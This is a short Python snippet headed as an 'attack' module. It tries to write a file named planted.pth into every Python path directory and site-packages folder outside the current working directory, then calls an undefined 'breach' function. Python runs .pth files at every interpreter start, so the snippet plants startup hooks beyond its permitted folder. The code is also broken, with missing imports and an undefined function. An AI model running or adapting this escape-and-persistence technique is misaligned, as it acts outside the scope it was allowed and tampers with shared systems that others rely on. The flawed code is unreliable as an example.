# /// attack
# title = "a module for the next student"
# ends = "finished"
# ///
import site
own = os.getcwd()  # it may write there, and it goes with the job
for folder in [*(entry for entry in sys.path if os.path.realpath(entry) != own), *site.getsitepackages()]:
    try:
        open(os.path.join(folder, "planted.pth"), "w").write("import os")
        breach(folder)
    except OSError:
        pass
